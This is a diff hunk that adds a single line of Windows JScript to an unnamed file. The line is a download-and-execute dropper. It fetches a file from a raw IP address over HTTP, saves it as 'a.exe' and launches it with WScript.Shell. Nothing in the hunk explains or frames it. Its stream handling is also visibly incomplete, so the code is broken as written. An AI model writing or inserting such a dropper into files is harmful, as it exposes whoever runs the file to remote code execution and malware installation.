@@ -1,0 +1,1 @@
+var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://198.51.100.1/a",0);x.send();var s=new ActiveXObject("ADODB.Stream");s.SaveToFile("a.exe",2);new ActiveXObject("WScript.Shell").Run("a.exe")
